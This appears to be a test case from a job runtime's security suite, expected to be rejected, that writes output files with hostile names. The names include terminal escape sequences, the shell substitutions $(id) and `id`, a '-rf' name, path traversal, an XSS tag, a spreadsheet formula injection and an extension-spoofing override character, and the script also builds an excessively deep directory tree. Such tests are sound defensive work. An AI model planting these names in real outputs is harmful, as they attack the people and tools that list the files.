# /// attack
# row = "19"
# aim = "Name results so that they hurt whoever lists them."
# runtimes = ["process", "docker"]
# verdicts = ["rejected"]
# ///
import os

out = os.fsencode(os.environ["OUTPUT_DIR"])
NAMES = [
    b"line\nbreak", b"\x1b]0;owned\x07\x1b[2J", b"\xff\xfe\x80", b"-rf", b"..\\..\\up", b"<script>alert(1)<script>", b"=cmd|' 'A0",
    "\u202egnp.exe".encode(), b"$(id)", b"`id`", b"x" * 255, b".hidden", b"%s%n", b" ", b"con.", b"model.pt\x00"[:8] + b" ", "\ud800".encode("utf-8", "surrogatepass"),
]
if os.environ["RANK"] == "0":
    for name in NAMES:
        with open(os.path.join(out, name), "wb") as file:
            file.write(b"x")
    deep = out
    for _ in range(60):
        deep = os.path.join(deep, b"y" * 40)
        os.mkdir(deep)
